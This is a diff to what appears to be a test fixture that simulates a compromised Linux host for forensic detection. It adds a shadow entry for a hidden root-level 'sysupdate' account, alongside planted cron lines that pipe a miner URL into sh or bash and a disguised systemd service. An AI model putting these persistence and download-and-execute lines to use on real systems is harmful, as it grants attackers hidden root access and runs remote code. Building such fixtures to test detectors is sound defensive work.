@@ -52,6 +52,8 @@ ORDINARY = {
 PLANTED = {
     # A second UID-0 account, appended to the host's own.
     "etc/passwd": ORDINARY["etc/passwd"] + "sysupdate:x:0:0::/var/tmp:/bin/bash\n",
+    # ...made on the incident's day (useradd writes the day, in days since 1970, into the third field).
+    "etc/shadow": ORDINARY["etc/shadow"] + f"sysupdate:$6$salt$notarealhash:{int(INCIDENT // 86400)}:0:99999:7:::\n",
     "etc/crontab": ORDINARY["etc/crontab"] + f"*/5 * * * * root curl -fsSL {MINER_URL} | sh\n",
     "var/spool/cron/crontabs/www-data": f"@reboot wget -q -O- {MINER_URL} | bash\n",
     "etc/systemd/system/dbus-update.service": "[Unit]\nDescription=D-Bus update helper\n\n[Service]\n"
